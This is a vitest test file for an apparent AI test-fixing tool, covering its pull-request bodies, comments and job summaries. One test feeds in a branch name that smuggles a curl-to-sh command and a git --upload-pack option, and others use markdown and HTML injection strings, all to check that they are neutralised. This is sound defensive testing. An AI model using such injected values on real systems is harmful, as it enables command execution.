import { describe, expect, it } from 'vitest';
import { byteLength } from '../../src/base/text.ts';
import type { Tripwire } from '../../src/core/events.ts';
import { DEFAULT_SETTINGS } from '../../src/core/settings.ts';
import { breakCommands } from '../../src/github/status.ts';
import { jobSummary, shortSummary } from '../../src/story/job-summary.ts';
import type { StoryEvent } from '../../src/story/moment.ts';
import { endComment, MAX_BODY_CHARS, pullRequestBody } from '../../src/story/report.ts';
import { isReady } from '../../src/story/run-record.ts';
import { storyOf } from '../../src/story/story.ts';
import { tell } from '../../src/story/tell.ts';
import { goal, guard, hasType, playJobs, sums } from '../core/play-jobs.ts';
import { done, fix, read, write } from '../core/steps.ts';
import { BASE, EVENTS, GREEN, HOSTILE, LINKS, recordOfTexts, recordWith, testsOf } from './records.ts';

const issue = (title: string) => ({ kind: 'issue', number: 12, title }) as const;

/** The lines of a Markdown text that stand outside of every fenced block; a block left open is an error. */
function outsideOfFences(markdown: string): string {
  const outside: string[] = [];
  let ticks: string | null = null;
  for (const line of markdown.split('\n')) {
    const mark = /^`{3,}/.exec(line)?.[0] ?? null;
    if (ticks === null && mark === null) outside.push(line);
    else if (ticks === null) ticks = mark;
    else if (line.trim() === ticks) ticks = null;
  }
  expect(ticks).toBeNull();
  return outside.join('\n');
}

describe('pullRequestBody', () => {
  it('tells what was done, red to green, what it cost and where its record lies', async () => {
    const body = pullRequestBody(recordWith(), LINKS).replaceAll('\u200b', '');
    await expect(`${body}\n`).toMatchFileSnapshot('golden/pull-request.md');
  });

  it('names the failed job of which its rows are, and a check that guards nothing, as the job summary does', async () => {
    const jobs = { test: sums, types: hasType, lint: () => 'error: always' };
    const whole = write('/** @type {any} */\nexport const sum = (a, b) => a + b;\n');
    const model = [read, fix, whole, done()];
    const task = { jobs: [goal('test'), goal('types')], guards: [guard('lint')] };
    const { events } = await playJobs(jobs, task, { model });
    const record = { ...recordWith(), story: storyOf(events) };
    const body = pullRequestBody(record, LINKS);
    expect(body).toMatch(/^\| Base commit: <code>test<\/code>, step <code>Run<\/code> \| 🔴 red/m);
    expect(body).toMatch(
      /^\| With the change, in a fresh copy: <code>test<\/code>, step <code>Run<\/code> \| 🟢 green/m,
    );
    const line =
      '- <code>lint</code>, step <code>Run</code> guards nothing: it is not green without the patch either';
    expect(body.split('\n')).toContain(line);
    expect(jobSummary(record, LINKS, null).split('\n')).toContain(line);
    const job = '<code>test</code>, step <code>Run</code>';
    expect(body).toMatch(new RegExp(`<summary>What the tests printed before: ${job}</summary>`));
    expect(jobSummary(record, LINKS, null)).toMatch(
      new RegExp(`<summary>Before: ${job}: red .*<summary>Without the patch, at the end: ${job}: red `, 's'),
    );
  });

  it('closes the issue that it was started by, and no other', () => {
    const body = pullRequestBody(
      recordWith({ summary: 'Fixes #99. Closes #13', trigger: issue('It fails') }),
      LINKS,
    );
    expect(body.match(/\b(fix|close|resolve)\w*:? #\d+/gi)).toEqual(['Fixes #12']);
    expect(pullRequestBody(recordWith({ summary: 'Fixes #99' }), LINKS)).not.toMatch(/fixes #\d/i);
  });

  it('says on top that nothing proves an unverified change, and why', () => {
    const green = testsOf({ ok: true, verdict: 'green', exit_code: 0, output: 'ok' });
    const tested = [
      { kind: 'tests', payload: green },
      { kind: 'tests', payload: GREEN },
    ];
    const before = pullRequestBody(recordWith({ outcome: 'unverified', events: tested }), LINKS);
    expect(before).toContain(
      '**Unverified: the tests pass with this change, and passed without it, so nothing proves it.**\n\n> [!WARNING]\n> **Unverified.** Nothing proves that it does what it says.',
    );
    const never = pullRequestBody(recordWith({ outcome: 'unverified', events: [] }), LINKS);
    expect(never).toMatch(/^\*\*Unverified: the tests were not run/);
  });

  it('quotes a branch name that a shell would run a part of, and leaves out one that git would read as an option', () => {
    const bodyFor = (branch: string) => pullRequestBody(recordWith({ branch }), LINKS);
    expect(bodyFor("fix;curl$IFS-s$IFS'evil.sh|sh")).toContain(
      "git fetch origin 'fix;curl$IFS-s$IFS'\\''evil.sh|sh' && git checkout FETCH_HEAD && ",
    );
    expect(bodyFor('--upload-pack=x')).not.toContain('git fetch');
  });

  it('shows that the tests are red again without the patch', () => {
    const red = { kind: 'tests', payload: testsOf({ phase: 'counterfactual' }) };
    const body = pullRequestBody(recordWith({ events: [...EVENTS, red] }), LINKS);
    expect(body).toContain('| Again, in a fresh copy | 🟢 green (exit 0, 2.3 s) |');
    expect(body).toContain('| Without the change | 🔴 red (exit 1, 2.3 s) |');
    expect(body).toMatch(/^\*\*.* Failing before, passing with this change, failing again without it\.\*\*/);
  });

  it('says what weakens it', () => {
    const notes = ['job "unit" runs in a container'];
    expect(pullRequestBody(recordWith({ notes }), LINKS)).toContain(
      '### Notes\n\n- job "unit" runs in a container',
    );
  });

  it('shows lines that keep tests from failing before all others, and says that it is a draft for them', () => {
    const at = { path: 'a.py', line: 3, why: 'so' };
    const swallows = { ...at, kind: 'swallows exceptions' } as const;
    const skips = { ...at, kind: 'skips tests' } as const;
    const body = (tripwires: readonly Tripwire[]) => pullRequestBody(recordWith({ tripwires }), LINKS);
    const warned = body([swallows, skips]);
    expect(warned).toMatch(
      /\*\*A draft: [^*]+\*\* \*\*Look at these.*\n.*skips tests: so\n.*swallows exceptions: so/,
    );
    expect(body([swallows])).not.toContain('A draft');
    expect(isReady(recordWith({ tripwires: [swallows] }))).toBe(true);
    expect(isReady(recordWith({ tripwires: [skips] }))).toBe(false);
  });

  it('says that the trace was not uploaded', () => {
    const body = pullRequestBody(recordWith({ trace: { sha256: null, artifactId: null } }), LINKS);
    expect(body).toContain('| Trace | not uploaded |');
  });

  it('leaves out sections where there is little room, and keeps what it says on top and what closes the issue', () => {
    const record = recordWith({ trigger: issue('It fails') });
    const whole = pullRequestBody(record, LINKS);
    for (const maxChars of [whole.length - 1, 1_500, 800]) {
      const body = pullRequestBody(record, LINKS, maxChars);
      expect(body.length).toBeLessThanOrEqual(maxChars);
      expect(body).toMatch(
        /^\*\*The test command passes now[\s\S]*There was no room for the whole report[\s\S]*$/,
      );
      expect(body).toContain('Fixes #12');
    }
    expect(pullRequestBody(record, LINKS, 1_500)).not.toContain('What the tests printed');
  });
});

it('the comment tells once how the run ended', () => {
  const events = [{ kind: 'tests', payload: testsOf({ verdict: 'not_found' }) }];
  const record = recordWith({ outcome: 'infra_error', events, summary: 'No.' });
  expect(endComment(record, LINKS, null)).toBe(
    `**agent-fix: infrastructure error.** The test command could not be run here, it fails here for a reason that is not in the code, or agent-fix itself failed.\n\nNo.\n\n[The job and its record](${LINKS.run})`,
  );
});

it('comment, summary and log name each refused write, its reason and the whole line that opens it', () => {
  const path = `deploy/${'x'.repeat(300)}.yaml`;
  const closed = `${path} is closed (kind of file), because it is a data file in a folder without sources of the product`;
  const refusal = {
    path,
    rule: 'protected: kind of file',
    reason: `${closed}; only the user opens it, with "allow-paths: ${path}", so change product code instead`,
    opens: `allow-paths: ${path}`,
  };
  const encoding = { path: 'a.c', rule: 'content', reason: 'a.c is not edited: it is not valid UTF-8' };
  const events = [
    refusal,
    refusal,
    encoding,
    { path: '../x', rule: 'path: leaves the repository', reason: 'no' },
  ].map((payload) => ({ kind: 'policy_denied', payload: { t: 1, ...payload } }));
  const texts = tell(recordWith({ outcome: 'not_fixed', events, summary: 'No.' }), LINKS);
  const { comment, summary } = texts.ended(null, { isDryRun: false });
  expect(texts.refusals).toEqual([
    `Refused: ${closed}. What opens it: allow-paths: ${path}`,
    'Refused: a.c is not edited: it is not valid UTF-8.',
  ]);
  for (const text of [comment, summary]) {
    expect(text).toContain(`\nallow-paths: ${path}\n`);
    expect(text).toContain('not valid UTF-8');
    expect(text.split('allow-paths').length).toBe(2);
  }
});

const run = (payload: Parameters<typeof testsOf>[0]) => ({ kind: 'tests', payload: testsOf(payload) });
const green = { ok: true, verdict: 'green', exit_code: 0, output: 'ok' } as const;

it('the proof of an issue says what ran, and shows what the new test printed without the fix', () => {
  const failure = { id: 'test_two', file: 'tests/test_two.py', line: 3, message: 'assert 4 == 5' };
  const report = { source: 's', failures: [failure], passed: 9, failed: 1, skipped: 0 };
  const events = [
    run(green),
    run({ ...green, phase: 'final' }),
    run({ ...green, phase: 'confirm' }),
    run({ phase: 'counterfactual', without: 'product', report, output: 'E   assert 4 == 5' }),
  ];
  const body = pullRequestBody(recordWith({ trigger: issue('It fails'), events }), LINKS);
  expect(body).toContain(`| Whole suite before | 🟢 passes (exit 0, 2.3 s) |
| New test without the fix | 🔴 fails (exit 1, 2.3 s), 1 failure |
| With the fix | 🟢 passes (exit 0, 2.3 s) |
| Again, in a fresh copy | 🟢 passes (exit 0, 2.3 s) |`);
  expect(body).toContain(
    '<summary>What the new test printed without the fix</summary>\n\n```text\nE   assert 4 == 5',
  );
  expect(body).toMatch(/### Tests that failed\n\n- .*: assert 4 == 5\n/);
  expect(jobSummary(recordWith({ events }), LINKS, null)).toContain('<summary>New test without the fix: red');
});

describe('what the built-in search found', () => {
  const candidate = (n: number, verdict: string) => ({
    kind: 'candidate',
    payload: { n, path: 'add.py', line: 3, verdict },
  });
  const written = { rel_path: 'add.py', content: null, edits: [{ old: 'a - b', new: 'a + b' }] };
  const events: readonly StoryEvent[] = [
    run({}),
    candidate(1, 'failed'),
    candidate(2, 'failed'),
    candidate(3, 'passed'),
    { kind: 'tool_result', payload: { tool: 'write_file', args: written, obs: { ok: true, meta: {} } } },
    run({ ...green, phase: 'write' }),
    run({ ...green, phase: 'confirm' }),
    run({ phase: 'counterfactual' }),
  ];
  const record = recordWith({
    events,
    settings: { ...DEFAULT_SETTINGS, solver: 'builtin' },
    model: { name: 'builtin', api: 'none' },
  });

  it('is a draft that says why, without rows about a model', () => {
    const body = pullRequestBody({ ...record, isDraft: true }, LINKS);
    expect(body).toMatch(
      /^\*\*.*\*\*\n\n> \[!NOTE\]\n> \*\*A draft: nobody has understood this change yet\.\*\* Found by the built-in solver: it undoes/,
    );
    expect(body).not.toMatch(/\| (?:Model|Tokens|Cost) \||replies|reflections/);
    expect(pullRequestBody(record, LINKS)).not.toContain('A draft');
  });

  it('has a line for each candidate that passed, in a fold', () => {
    const summary = jobSummary(record, LINKS, null);
    const [above = '', below = ''] = summary.split('<details><summary>Timeline</summary>');
    expect(above).not.toContain('candidate 3');
    expect(below).toMatch(
      /before any change: red.*\n\[candidate 3\] undoing add\.py:3: passed\n\[tests\] after the write: green/,
    );
  });
});

it('a job summary has at most 120 lines, however much a search tried and the tests printed', () => {
  const output = Array.from({ length: 400 }, (_, n) => `E   assert ${n} == ${n + 1}`).join('\n');
  const runs = EVENTS.map(
    (event): StoryEvent =>
      event.kind === 'tests' ? { ...event, payload: { ...event.payload, output } } : event,
  );
  const tried = Array.from({ length: 2000 }, (_, n): StoryEvent => {
    const verdict = n % 10 === 0 ? 'passed' : 'failed';
    const path = `src/module_${n % 40}.py`;
    return { kind: 'candidate', payload: { n, path, line: n, verdict } };
  });
  const notes = Array.from({ length: 50 }, (_, n) => `note ${n}`);
  const summary = jobSummary(recordWith({ events: [...runs, ...tried], notes }), LINKS, null);
  expect(summary.split('\n').length).toBeLessThanOrEqual(120);
  expect([...summary.matchAll(/<summary>(\w+)/g)].map(([, title]) => title)).toEqual([
    'Test',
    'Before',
    'After',
    'Timeline',
    'Run',
  ]);
  expect(summary).toContain('passed');
});

describe('a job summary in which everything is long', () => {
  const hostile = ['```', '<img src=x> [a](https://evil)', '</details>', '````', '<img src=y>'];
  const lines = Array.from({ length: 300 }, (_, n) => hostile[n % hostile.length]).join('\n');
  const whole = recordOfTexts(lines, 12);
  const [without] = whole.story.counterfactuals;
  const check = { job: 'lint', step: 'Run', why: lines };
  const leftOut = Array.from({ length: 7 }, () => check);
  const failedJobs = (count: number) =>
    Array.from({ length: count }, () => without).filter((run) => run !== undefined);

  it.each([
    ['one job', 1, 2_000],
    ['three jobs', 3, 2_000],
    ['ten jobs', 10, 2_000],
    ['ten jobs, and a command of eight lines', 10, 8],
  ])(
    'F10 G15 of %s has at most 120 lines, and shows nothing of the run outside of a block',
    (_, jobs, commandLines) => {
      const [first] = whole.task.jobs;
      const run = lines.split('\n').slice(0, commandLines).join('\n');
      const task = { ...whole.task, jobs: first ? [{ ...first, command: { ...first.command, run } }] : [] };
      for (const outcome of ['fixed', 'not_fixed', 'unverified'] as const) {
        const story = {
          ...whole.story,
          counterfactuals: failedJobs(jobs),
          guards: { ...whole.story.guards, leftOut },
        };
        const summary = jobSummary({ ...whole, outcome, task, story, cost: '0.024' }, LINKS, null);
        expect(summary.split('\n').length).toBeLessThanOrEqual(120);
        const outside = outsideOfFences(summary);
        expect(outside).not.toMatch(/<img|(?<!\\)\]\(https:\/\/evil/);
        expect(outside.match(/<details>/g)?.length).toBe(outside.match(/<\/details>/g)?.length);
        const shown = summary.match(/<summary>Without the patch/g)?.length ?? 0;
        expect(shown).toBeGreaterThan(0);
        const left = /^… (\d+) more runs? without the patch/m.exec(summary)?.[1] ?? '0';
        expect(shown + Number(left)).toBe(jobs);
      }
    },
  );
});

it('a price has its currency', () => {
  expect(pullRequestBody(recordWith({ cost: '0.024' }), LINKS)).toContain('| Cost | 0.024 USD |');
});

it('what stands before the first fold of a summary is short, whatever the run said', () => {
  const summary = jobSummary(recordOfTexts('words '.repeat(2_000), 200), LINKS, null);
  expect(byteLength(summary.slice(0, summary.indexOf('<details>')))).toBeLessThan(6_000);
});

describe('jobSummary', () => {
  const published = {
    kind: 'published',
    number: 3,
    url: 'https://github.com/octo/app/pull/3',
    operation: 'created',
    pushed: { branch: 'agent-fix/x', commitSha: BASE, commitVerified: true },
    warnings: ['The labels could not be set (HTTP 403).'],
  } as const;

  it('tells the story with a line for each reply', () => {
    const text = jobSummary(recordWith(), LINKS, published).replaceAll('\u200b', '');
    expect(text).toMatch(/^## agent-fix: fixed\n\n\*\*The test command passes now/);
    expect(text).toContain(
      '[Pull request 3](https://github.com/octo/app/pull/3) was created. The labels could not be set',
    );
    expect(text).toContain(`[tests] before any change: red (exit 1) in 2.3 s
[turn 1] read_file add.py
[turn 2] write_file pytest.ini
[write_file] pytest.ini is protected
[turn 3] malformed reply: unknown tool run_tests
[turn 4] write_file add.py
[tests] after the write: green in 2.3 s
[turn 5] final: done
[tests] confirming: green in 2.3 s`);
  });

  it('says why nothing was published', () => {
    const problem = 'Nothing was pushed: "x" is a workflow.';
    const text = jobSummary(recordWith(), LINKS, { kind: 'failed', problem, pushed: null });
    expect(text).toContain('**Not published.** Nothing was pushed: "x" is a workflow.');
  });

  it('keeps the first and the last of a thousand lines, and says how much lies between', () => {
    const action = { type: 'tool_call', name: 'read_file', args: { rel_path: 'a.py' } };
    const events: readonly StoryEvent[] = Array.from({ length: 1000 }, (_, t) => ({
      kind: 'llm_action',
      payload: { t, action },
    }));
    const text = jobSummary(recordWith({ events }), LINKS, null);
    expect(text).toMatch(/\[turn 1\] .*left out.*\[turn 1000\] /s);
  });

  it('is short for a run that never started', () => {
    expect(shortSummary('refused', 'trudy has no write access')).toBe(
      '## agent-fix: refused\n\nNothing was run here, and nothing was published. Reason: trudy has no write access.\n',
    );
  });
});

it('fails the step in one clear line that commands no runner, where the outcome does', () => {
  const summary = 'The model\nfound no fix. ::error::x @mona';
  const record = { ...recordWith(), outcome: 'not_fixed' as const };
  const { failure } = tell({ ...record, story: { ...record.story, summary } }, LINKS).ended(null, {
    isDryRun: false,
  });
  expect(breakCommands(failure ?? '')).toBe(
    'agent-fix: The model found no fix. :\u200b:error:\u200b:x @\u200bmona Outcome: not_fixed.',
  );
});

describe.each([
  ['pullRequestBody', (record: ReturnType<typeof recordWith>) => pullRequestBody(record, LINKS)],
  ['jobSummary', (record: ReturnType<typeof recordWith>) => jobSummary(record, LINKS, null)],
])('%s, of hostile texts', (name, render) => {
  it('G10 G12 G13 G14 G15 F10 obeys none of them', () => {
    const markdown = render(recordOfTexts(HOSTILE));
    expect(markdown).not.toMatch(/@[A-Za-z]|(?<!&)#\d|GH-\d|\u202e|\u001b|\u{e0041}/u);
    const outside = outsideOfFences(markdown);
    const tags = outside.match(/<[^>]*>/g) ?? [];
    const ours = ['sub', 'code', 'details', 'summary'].flatMap((tag) => [`<${tag}>`, `</${tag}>`]);
    expect(tags.filter((tag) => !ours.includes(tag))).toEqual([]);
    const links = [...outside.matchAll(/(?<!\\)\[[^\]]*\]\(([^)]*)\)/g)].map(([, address]) => address);
    expect(links.filter((address) => !address?.startsWith('https://github.com/octo/app/'))).toEqual([]);
    expect(outside).not.toMatch(/!\[(?!WARNING)/);
    for (const row of outside.split('\n').filter((line) => line.startsWith('|'))) {
      const cells = row.split(/(?<!\\)\|/).length - 2;
      expect(cells).toBe(2);
    }
  });

  it.each([
    ['words', 'x '],
    ['signs that grow when they are made harmless', '<`*@a#1'],
    ['wide characters', '𝕏漢'],
    ['back-ticks', '`'],
    ['lines', 'a\n'],
    ['blocks', '```\n'],
  ])('G16 keeps its size for 100 KB of %s', (_, piece) => {
    const markdown = render(recordOfTexts(piece.repeat(Math.ceil(100_000 / piece.length)), 40));
    if (name === 'jobSummary') expect(byteLength(markdown)).toBeLessThanOrEqual(60 * 1024);
    else expect(markdown.length).toBeLessThanOrEqual(MAX_BODY_CHARS);
    expect(markdown).toMatch(/left out|more files/);
    outsideOfFences(markdown);
  });
});
